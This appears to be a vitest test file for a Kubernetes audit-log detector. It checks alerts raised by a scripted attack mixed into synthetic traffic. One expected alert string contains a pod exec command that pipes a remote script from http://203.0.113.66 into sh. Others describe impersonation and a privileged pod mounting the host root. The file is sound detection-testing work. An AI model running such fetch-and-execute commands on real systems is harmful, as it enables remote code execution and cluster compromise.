import { describe, expect, it } from 'vitest';
import { createDetector } from '../../src/detect/index.js';
import type { Alert } from '../../src/detect/types.js';
import { generateTraffic } from '../../src/demo/traffic.js';
import { ATTACKER, incidentEvents, interleave, scriptIncident } from '../../src/demo/incident.js';
import { decode, feed } from './helpers.js';

const START = Date.UTC(2026, 10, 21, 9, 0, 0);

function replay(events: Iterable<Record<string, unknown>>): Alert[] {
  const d = createDetector();
  const out: Alert[] = [];
  const batch: Array<Record<string, unknown>> = [];
  const flush = () => {
    out.push(...feed(d, decode(batch)));
    batch.length = 0;
  };
  for (const e of events) {
    batch.push(e);
    if (batch.length >= 5000) flush();
  }
  flush();
  return out;
}

describe('scripted incident', () => {
  it('raises exactly one alert per step, from the step, and nothing on the surrounding normal traffic', () => {
    const steps = scriptIncident({ start: START + 120_000 });
    const stream = interleave(generateTraffic({ seed: 42, start: START, eventsPerSecond: 150 }), incidentEvents(steps), 54_000);
    const alerts = replay(stream);
    const owner = new Map<string, string>();
    for (const s of steps) for (const e of s.events) owner.set(e.auditID as string, s.id);
    const fromIncident = alerts.filter((a) => owner.has(a.auditID));
    const fromTraffic = alerts.filter((a) => !owner.has(a.auditID));
    expect(fromTraffic).toEqual([]);
    expect(fromIncident.map((a) => [owner.get(a.auditID), a.rule])).toEqual(steps.map((s) => [s.id, s.rule]));
    for (const a of fromIncident) expect(a.message).not.toBe('');
    const exec = fromIncident.find((a) => a.rule === 'exec-into-pod');
    expect(exec?.message).toBe(`${ATTACKER} exec into pod prod/orders-6d8f7c9b5-x2x4q (container orders): sh -c 'curl -fsSL http://203.0.113.66/x.sh | sh'`);
    expect(fromIncident.find((a) => a.rule === 'impersonation')?.severity).toBe('critical');
    expect(fromIncident.find((a) => a.rule === 'privileged-pod')?.message).toBe(
      `${ATTACKER} created pod prod/node-debugger with privileged container 'shell', hostPID; also hostPath / (volume 'host')`,
    );
  });

  it('is deterministic and distinguishes repeated runs', () => {
    const a = scriptIncident({ start: START });
    expect(scriptIncident({ start: START })).toEqual(a);
    const b = scriptIncident({ start: START, run: 1 });
    expect(b[0]?.events[0]?.auditID).not.toBe(a[0]?.events[0]?.auditID);
  });
});

describe('normal generator traffic', () => {
  it('raises no alert attributed to a control-plane identity (and none at all)', () => {
    const it = generateTraffic({ seed: 7, start: START, eventsPerSecond: 400 });
    const alerts = replay(interleave(it, [], 100_000));
    expect(alerts.map((a) => `${a.rule} ${a.user}: ${a.message}`)).toEqual([]);
  });
});
